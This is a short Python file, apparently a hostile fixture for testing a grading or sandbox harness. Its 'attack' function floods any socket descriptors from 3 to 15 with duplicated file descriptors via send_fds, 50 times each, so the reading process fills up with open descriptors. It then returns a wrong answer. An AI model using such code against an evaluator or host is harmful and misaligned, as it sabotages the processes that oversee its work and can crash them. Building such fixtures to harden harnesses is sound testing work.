"""Hands its descriptors over to whoever reads from its channel, who would have to close them.
Ends as: crash, error, fail, timeout
"""

import contextlib
import os
import socket


def attack(X, wrong):
    mine = [os.dup(1) for _ in range(4)]
    for descriptor in range(3, 16):
        with contextlib.suppress(OSError, ValueError):
            channel = socket.socket(fileno=os.dup(descriptor))
            for _ in range(50):
                socket.send_fds(channel, [b"\0"], mine)
    return wrong
